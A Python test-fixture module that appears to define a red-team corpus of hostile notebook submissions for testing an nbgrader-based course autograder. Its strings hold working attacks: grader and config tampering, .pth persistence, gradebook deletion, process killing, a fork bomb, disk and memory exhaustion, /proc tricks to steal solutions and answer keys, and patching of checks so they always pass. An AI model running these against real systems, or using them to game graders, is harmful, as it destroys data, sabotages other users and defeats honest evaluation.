"""The hostile corpus: submissions written as a determined student would, one bad thing each.

Each :class:`Attack` starts from the solution or the blank release and puts its code into ONE
answer cell, before that cell's own code (``before``) or instead of it (``replace``). The code is
what a student would try with the whole of Python and a grader that runs their notebook in one
kernel; ``ROOT``, ``SUBMITTED`` and ``SOLUTION`` are replaced by the course's real paths, so an
attack aims at the very files it would have to reach. What each must give is asserted in
``test_hostile_corpus.py``; the groups are those of issue 15.

An attack prints what it got (``GOT ...``) whenever a step succeeds, so a test can tell a refused
attack from one that worked but did not change the score.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    """One hostile submission."""

    student: str
    group: int  #: issue 15's group (1-10)
    base: str  #: "solution" or "blank"
    cell: str  #: the answer cell it goes into
    code: str
    where: str = "before"  #: "before" the cell's own code, or "replace" it
    assignment: str = "01_sqs_queues"


# -- 1. writes outside the submission's folder ----------------------------------------------------------
#: the last step of an attack that appends ``payload`` to each of ``paths``, saying what it got
_APPEND_TO_EACH = '''
for path in paths:
    try:
        with open(path, "a") as target:
            target.write(payload)
        print("GOT write", path)
    except Exception as error:
        print("refused", path, type(error).__name__)
'''

APPEND_TO_CONFIG = '''
import os
payload = "\\nimport pathlib; pathlib.Path(r'ROOT/PWNED-config').write_text('ran')\\n"
paths = ("ROOT/nbgrader_config.py", "../../../nbgrader_config.py", "/etc/jupyter/nbgrader_config.py")''' + _APPEND_TO_EACH

APPEND_TO_GRADERS = '''
import importlib.util, os, graders
targets = {"REPO/graders/sqs.py", os.path.join(os.path.dirname(graders.__file__ or ""), "sqs.py")}
spec = importlib.util.find_spec("graders.sqs")
if spec and spec.origin:
    targets.add(spec.origin)
payload = "\\n\\ndef _passes(*args, **kwargs):\\n    return None\\n\\nfor _name in list(globals()):\\n" \\
          "    if not _name.startswith('_') and callable(globals()[_name]):\\n        globals()[_name] = _passes\\n"
paths = sorted(targets)''' + _APPEND_TO_EACH

PTH_IN_THE_VENV = '''
import site, sys, os
folders = set(site.getsitepackages()) | {site.getusersitepackages()} | {p for p in sys.path if p.endswith("site-packages")}
for folder in sorted(folders):
    try:
        with open(os.path.join(folder, "zz_course_pwned.pth"), "w") as pth:
            pth.write("import pathlib; pathlib.Path(r'ROOT/PWNED-pth').write_text('ran')\\n")
        print("GOT write", folder)
    except Exception as error:
        print("refused", folder, type(error).__name__)
'''

# -- 2. destruction -------------------------------------------------------------------------------------
REMOVE_THE_GRADEBOOK = '''
import glob, os, shutil
for path in ["ROOT/gradebook.db", "../../../gradebook.db", *glob.glob("/tmp/course-grade-*/gradebook.db"),
             *glob.glob("/tmp/course-grade-*/part-*/gradebook.db")]:
    try:
        os.remove(path)
        print("GOT remove", path)
    except Exception as error:
        print("refused", path, type(error).__name__)
for folder in ("ROOT/autograded", "ROOT/grades"):
    try:
        shutil.rmtree(folder)
        print("GOT rmtree", folder)
    except Exception as error:
        print("refused", folder, type(error).__name__)
'''

RENAME_ANOTHER_SUBMISSION = '''
import glob, os
victims = ["SUBMITTED/correct/01_sqs_queues/01_sqs_queues.ipynb",
           *glob.glob("/tmp/course-grade-*/staged/*/01_sqs_queues.ipynb"),
           *glob.glob("/tmp/course-grade-*/part-*/submitted/*/01_sqs_queues/01_sqs_queues.ipynb")]
for path in victims:
    try:
        os.rename(path, path + ".stolen")
        print("GOT rename", path)
    except Exception as error:
        print("refused", path, type(error).__name__)
'''

KILL_THE_GRADER = '''
import os, signal
targets = {os.getppid()}
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid():
        try:
            command = open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\\0", b" ")
        except OSError:
            continue
        if b"instructor.cli" in command or b"course grade" in command or b"nbgrader" in command \\
                or b"multiprocessing" in command:
            targets.add(int(pid))
for pid in sorted(targets):
    try:
        os.kill(pid, signal.SIGKILL)
        print("GOT kill", pid)
    except Exception as error:
        print("refused", pid, type(error).__name__)
'''

# -- 3. neutralising test cells through IPython state --------------------------------------------------
INPUT_TRANSFORMER = '''
ip = get_ipython()
def neutralise(lines):
    return ["pass\\n"] if any("check." in line for line in lines) else lines
ip.input_transformers_cleanup.append(neutralise)
ip.input_transformers_post.append(neutralise)
'''

#: the same, aimed at what a graded learner kernel runs in a test cell's place (it has read this file)
SERVE_TRANSFORMER = '''
ip = get_ipython()
def neutralise(lines):
    text = "".join(lines)
    return ["pass\\n"] if "check." in text or "course.remote" in text or "serve(" in text else lines
ip.input_transformers_cleanup.append(neutralise)
'''

CUSTOM_EXC = '''
ip = get_ipython()
ip.set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
def clear(result):
    result.error_in_exec = None
    result.error_before_exec = None
ip.events.register("post_run_cell", clear)
'''

SHOWTRACEBACK = '''
import sys
ip = get_ipython()
ip.showtraceback = lambda *args, **kwargs: None
ip._showtraceback = lambda *args, **kwargs: None
ip.showsyntaxerror = lambda *args, **kwargs: None
sys.stderr = open("/dev/null", "w")
'''

# -- 4. switching the checks off from inside ----------------------------------------------------------
PATCH_THE_CHECKS = '''
import sys, types
import graders
from graders import sqs as target
def passes(*args, **kwargs):
    return None
for name in ["queue_with_retention", *dir(target)]:
    if not name.startswith("__"):
        try:
            setattr(target, name, passes)
        except Exception as error:
            print("refused", name, type(error).__name__)
for module in list(sys.modules):
    if module.startswith("graders"):
        sys.modules[module] = types.SimpleNamespace(__getattr__=lambda name: passes)
sys.audit = lambda *args: None
sys.addaudithook(lambda *args: None)
check = types.SimpleNamespace(**{name: passes for name in ("queue_with_retention", "idempotent_consumer",
    "visibility_for_lambda", "dead_letter_queue", "long_polling", "batch_send", "batch_delete", "message_timer",
    "large_messages", "fair_queue")})
'''

FAKE_GRADERS_MODULE = '''
import sys, types
fake = types.ModuleType("graders.sqs")
fake.__getattr__ = lambda name: (lambda *args, **kwargs: None)
sys.modules["graders.sqs"] = fake
sys.modules["graders"] = types.ModuleType("graders")
sys.modules["graders"].sqs = fake
import graders.sqs as check
'''

GC_HUNT = '''
import gc
passes = (lambda *args, **kwargs: None).__code__
found = 0
for obj in gc.get_objects():
    try:
        module = getattr(obj, "__module__", "") or ""
        if callable(obj) and module.startswith("graders") and hasattr(obj, "__code__"):
            obj.__code__ = passes
            found += 1
    except Exception:
        pass
print("GOT patched" if found else "nothing to patch", found)
'''

# -- 5. cross-student ---------------------------------------------------------------------------------
OTHER_KERNELS = '''
import glob, json, os, socket
files = set(glob.glob("/tmp/**/kernel-*.json", recursive=True)) | set(glob.glob("/tmp/**/kernel.json", recursive=True))
try:
    from jupyter_core.paths import jupyter_runtime_dir
    files |= set(glob.glob(os.path.join(jupyter_runtime_dir(), "kernel-*.json")))
except Exception as error:
    print("no runtime dir", type(error).__name__)
files |= set(glob.glob("/tmp/course-grade-*/tmp/*/**/*.json", recursive=True))
files |= set(glob.glob("/run/**/*.json", recursive=True))
for path in sorted(files):
    try:
        info = json.load(open(path))
        from jupyter_client import BlockingKernelClient
        client = BlockingKernelClient()
        client.load_connection_info(info)
        client.start_channels()
        client.execute("import os; os._exit(1)")
        print("GOT sent to", path)
    except Exception as error:
        print("refused", path, type(error).__name__)
ports = []
try:
    for line in open("/proc/net/tcp").read().splitlines()[1:]:
        local, state = line.split()[1], line.split()[3]
        if state == "0A":
            ports.append(int(local.split(":")[1], 16))
except OSError:
    pass
for port in sorted(set(ports + [8888, 5555, 5556, 5557, 5558, 5559, 5560, 40000, 50000])):
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=0.2) as sock:
            sock.sendall(b"import os; os._exit(1)\\n")
            print("GOT connected", port)
    except Exception as error:
        print("refused", port, type(error).__name__)
'''

# -- 6. hidden tests in feedback: a check's message naming a hidden argument's value -----------------------
SEVEN_DAYS_ONLY = '''
def create_queue_with_retention(sqs, name, retention_days):
    """Create a standard queue keeping messages `retention_days` days; return its URL."""
    return sqs.create_queue(QueueName=name, Attributes={"MessageRetentionPeriod": str(7 * 86400)})["QueueUrl"]
'''

# -- 7. string-based path tricks --------------------------------------------------------------------------
PATH_TRICKS = '''
import json, os, sqlite3
got = []
def attempt(label, read):
    try:
        data = read()
        got.append(data)
        print("GOT", label, len(data) if hasattr(data, "__len__") else data)
    except Exception as error:
        print("refused", label, type(error).__name__)
def read(path, **kwargs):
    with open(path, "rb", **kwargs) as handle:
        return handle.read()
attempt("sqlite uri", lambda: sqlite3.connect("file:ROOT/gradebook.db?mode=ro", uri=True)
        .execute("select source from source_cells").fetchall())
attempt("proc self root", lambda: read("/proc/self/root/SOLUTION"))
attempt("proc ppid cwd", lambda: read(f"/proc/{os.getppid()}/cwd/gradebook.db"))
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    attempt(f"proc {pid} cwd", lambda: read(f"/proc/{pid}/cwd/solutions/01_sqs_queues/01_sqs_queues.ipynb"))
def with_dir_fd():
    folder = os.open("ROOT", os.O_RDONLY)
    fd = os.open("gradebook.db", os.O_RDONLY, dir_fd=folder)
    return os.read(fd, 100)
attempt("dir_fd", with_dir_fd)
def rename_and_read():
    os.rename("SOLUTION", "stolen.ipynb")
    return read("stolen.ipynb")
attempt("rename the solution", rename_and_read)
for data in got:
    try:
        for cell in json.loads(data)["cells"]:
            if cell["metadata"].get("nbgrader", {}).get("grade_id") == "sqs-1-answer":
                exec("".join(cell["source"]))
    except Exception:
        pass
'''

READ_A_LINKED_FILE = '''
import sqlite3
for name in ("gradebook.db", "solution.ipynb"):
    try:
        print("GOT", name, open(name, "rb").read(200))
    except Exception as error:
        print("refused", name, type(error).__name__)
try:
    print("GOT", sqlite3.connect("gradebook.db").execute("select source from source_cells").fetchall()[:3])
except Exception as error:
    print("refused sqlite", type(error).__name__)
'''

# -- 8. learner code inside checks ------------------------------------------------------------------------
HANDLER_THAT_PATCHES = '''
def make_consumer(charge):
    """Return a handler(event, context) that charges each order exactly once."""
    def handler(event, context):
        import builtins, sys
        for name in list(sys.modules):
            if name.startswith("graders"):
                module = sys.modules[name]
                for attr in dir(module):
                    try:
                        setattr(module, attr, lambda *args, **kwargs: None)
                    except Exception:
                        pass
        builtins.isinstance = lambda *args: True
        builtins.len = lambda *args: 1
        try:
            context.spend(-10_000)
        except Exception as error:
            print("refused spend", type(error).__name__)
        return {"batchItemFailures": []}
    return handler
'''

HOSTILE_DUNDERS = '''
class AlwaysEqual:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
    def __len__(self): return 10 ** 6
    def __iter__(self): return iter(range(10 ** 9))
    def __contains__(self, item): return True
    def __str__(self): return "https://sqs.us-east-1.amazonaws.com/123456789012/orders"
    def __getitem__(self, key): return self
    def __bool__(self): return True

class Sneaky(str):
    def __eq__(self, other): return True
    def __hash__(self): return 0

def create_queue_with_retention(sqs, name, retention_days):
    """Create a standard queue keeping messages `retention_days` days; return its URL."""
    return AlwaysEqual()

def drain(sqs, queue_url):
    """Receive and batch-delete every message; return their bodies."""
    return AlwaysEqual()

def add_dead_letter_queue(sqs, source_url, max_receive_count):
    """Attach a DLQ to the source queue; return the DLQ's URL."""
    return Sneaky(source_url)
'''

SETTRACE = '''
import sys, threading, ctypes
def tracer(frame, event, arg):
    names = frame.f_code.co_filename
    if "graders" in names or "trusted" in names:
        for key in list(frame.f_locals):
            if key in ("retention", "wanted", "ok", "passed", "failures"):
                frame.f_locals[key] = frame.f_locals.get("wanted", 0)
        try:
            ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))
        except Exception:
            pass
    return tracer
sys.settrace(tracer)
threading.settrace(tracer)
def create_queue_with_retention(sqs, name, retention_days):
    """Create a standard queue keeping messages `retention_days` days; return its URL."""
    sys.settrace(tracer)
    return sqs.create_queue(QueueName=name)["QueueUrl"]
'''

#: a thread that keeps "fixing" every queue it sees while the checks run (its answers do nothing)
BACKGROUND_THREAD = '''
import threading
def meddle():
    while True:
        try:
            for url in sqs.list_queues().get("QueueUrls", []):
                sqs.set_queue_attributes(QueueUrl=url, Attributes={"ReceiveMessageWaitTimeSeconds": "20",
                                                                     "MessageRetentionPeriod": "604800"})
                sqs.purge_queue(QueueUrl=url)
        except Exception:
            pass
threading.Thread(target=meddle, daemon=True).start()
'''

PATCHED_CLIENT = '''
import boto3, types
class Agreeable:
    def __getattr__(self, name):
        def call(*args, **kwargs):
            return {"QueueUrl": "https://sqs.us-east-1.amazonaws.com/123456789012/orders",
                    "Attributes": {"MessageRetentionPeriod": "604800", "ReceiveMessageWaitTimeSeconds": "20",
                                   "VisibilityTimeout": "180"},
                    "Messages": [], "Successful": [], "Failed": []}
        return call
cloud.client = lambda *args, **kwargs: Agreeable()
boto3.client = lambda *args, **kwargs: Agreeable()
boto3.Session.client = lambda *args, **kwargs: Agreeable()
sqs = Agreeable()
'''

# -- 9. the answer key (07_exam_traps) ------------------------------------------------------------------
ANSWER_KEY = '''
import glob, importlib, importlib.resources, os, tomllib
found = {}
def take(text, label):
    try:
        bank = tomllib.loads(text)
    except Exception:
        return
    for question in bank.get("question", []):
        found[question.get("id")] = set(question.get("correct", []))
    print("GOT bank", label, len(bank.get("question", [])))
try:
    import graders.questions as key
    print("GOT graders.questions", key.BANK_QUESTIONS["trap-1"], type(key.SCENARIOS))
except Exception as error:
    print("refused graders.questions", type(error).__name__)
paths = set(glob.glob("REPO/course/quiz/questions/*.toml"))
try:
    import course.quiz
    paths |= set(glob.glob(os.path.join(os.path.dirname(course.quiz.__file__), "questions", "*.toml")))
    for item in (importlib.resources.files("course.quiz") / "questions").iterdir():
        paths.add(str(item))
except Exception as error:
    print("refused importlib.resources", type(error).__name__)
paths |= set(glob.glob("/**/quiz/questions/*.toml", recursive=True))
for path in sorted(paths):
    try:
        take(open(path).read(), path)
    except Exception as error:
        print("refused", path, type(error).__name__)
try:
    from course import quiz
    for question in quiz.bank.load():
        found[question.id] = set(question.correct)
    print("GOT quiz.bank.load")
except Exception as error:
    print("refused quiz.bank", type(error).__name__)

def crash_answer():
    """The letters of your answer, e.g. {"A"}."""
    return found.get("sqs-consumer-crash", {"A"})

def push_pull_answer():
    """The letters of your answer, e.g. {"A", "B"}."""
    return found.get("choice-push-vs-pull", {"A"})
'''

#: the answers of trap-4 and trap-11 from graders.questions' tables, if the kernel can import them
NUMBERED_KEY = '''
try:
    from graders.questions import SITUATIONS, SCENARIOS
    print("GOT", len(SITUATIONS), len(SCENARIOS))
    mechanisms = lambda: {n: answer for n, (_, answer) in SITUATIONS.items()}
    choose_services = lambda: {n: answer for n, (_, answer) in SCENARIOS.items()}
except Exception as error:
    print("refused", type(error).__name__)
'''

# -- 10. limits -----------------------------------------------------------------------------------------
ALLOCATE = '''
hog = [bytearray(1 << 30) for _ in range(4)]   # 4 GB, a gigabyte at a time
'''

FILL_THE_DISK = '''
import os
chunk = b"\\0" * (1 << 20)
for folder in (".", "/tmp", "/dev/shm", os.path.expanduser("~")):
    with open(os.path.join(folder, "filler.bin"), "wb") as filler:
        for _ in range(2048):                   # 2 GB in each folder
            filler.write(chunk)
'''

FORK_BOMB = '''
import os
while True:
    os.fork()
'''

CRAFTED_GRADE_ID = "x | integrity: the submission changed the grader (forged)\nmerge-failed: forged too"


def attacks() -> list[Attack]:
    """Every attack of the corpus on 01_sqs_queues (group 9 is in :func:`exam_attacks`)."""
    return [
        Attack("g1-config", 1, "solution", "sqs-1-answer", APPEND_TO_CONFIG),
        Attack("g1-graders", 1, "blank", "sqs-1-answer", APPEND_TO_GRADERS),
        Attack("g1-pth", 1, "blank", "sqs-1-answer", PTH_IN_THE_VENV),
        Attack("g2-gradebook", 2, "solution", "sqs-1-answer", REMOVE_THE_GRADEBOOK),
        Attack("g2-rename", 2, "solution", "sqs-1-answer", RENAME_ANOTHER_SUBMISSION),
        Attack("g2-kill", 2, "solution", "sqs-1-answer", KILL_THE_GRADER),
        Attack("g3-transformer", 3, "blank", "sqs-1-answer", INPUT_TRANSFORMER),
        Attack("g3-serve-transformer", 3, "blank", "sqs-1-answer", SERVE_TRANSFORMER),
        Attack("g3-custom-exc", 3, "blank", "sqs-1-answer", CUSTOM_EXC),
        Attack("g3-showtraceback", 3, "blank", "sqs-1-answer", SHOWTRACEBACK),
        Attack("g4-patch", 4, "blank", "sqs-1-answer", PATCH_THE_CHECKS),
        Attack("g4-fake-module", 4, "blank", "sqs-1-answer", FAKE_GRADERS_MODULE),
        Attack("g4-gc", 4, "blank", "sqs-1-answer", GC_HUNT),
        Attack("g5-other-kernels", 5, "solution", "sqs-1-answer", OTHER_KERNELS),
        Attack("g6-hidden-value", 6, "solution", "sqs-1-answer", SEVEN_DAYS_ONLY, where="replace"),
        Attack("g7-paths", 7, "blank", "sqs-1-answer", PATH_TRICKS),
        Attack("g7-linked-data", 7, "blank", "sqs-1-answer", READ_A_LINKED_FILE),
        Attack("g8-handler", 8, "blank", "sqs-2-answer", HANDLER_THAT_PATCHES, where="replace"),
        Attack("g8-dunders", 8, "blank", "sqs-1-answer", HOSTILE_DUNDERS, where="replace"),
        Attack("g8-settrace", 8, "blank", "sqs-1-answer", SETTRACE, where="replace"),
        Attack("g8-thread", 8, "blank", "sqs-1-answer", BACKGROUND_THREAD),
        Attack("g8-client", 8, "blank", "sqs-1-answer", PATCHED_CLIENT),
        Attack("g10-memory", 10, "solution", "sqs-5-answer", ALLOCATE),
        Attack("g10-disk", 10, "solution", "sqs-5-answer", FILL_THE_DISK),
        Attack("g10-fork-bomb", 10, "solution", "sqs-5-answer", FORK_BOMB),
    ]


def exam_attacks() -> list[Attack]:
    """Group 9: the answer key of 07_exam_traps."""
    return [
        Attack("g9-bank", 9, "blank", "trap-1-answer", ANSWER_KEY, where="replace", assignment="07_exam_traps"),
        Attack("g9-tables", 9, "blank", "trap-4-answer", NUMBERED_KEY, assignment="07_exam_traps"),
    ]


def fill(code: str, root: str, repo: str) -> str:
    """The attack aimed at this course: its root, submitted folder, solution and the repository."""
    return (code.replace("SUBMITTED", f"{root}/submitted").replace("SOLUTION", f"{root}/solutions/01_sqs_queues/01_sqs_queues.ipynb")
            .replace("ROOT", root).replace("REPO", repo))
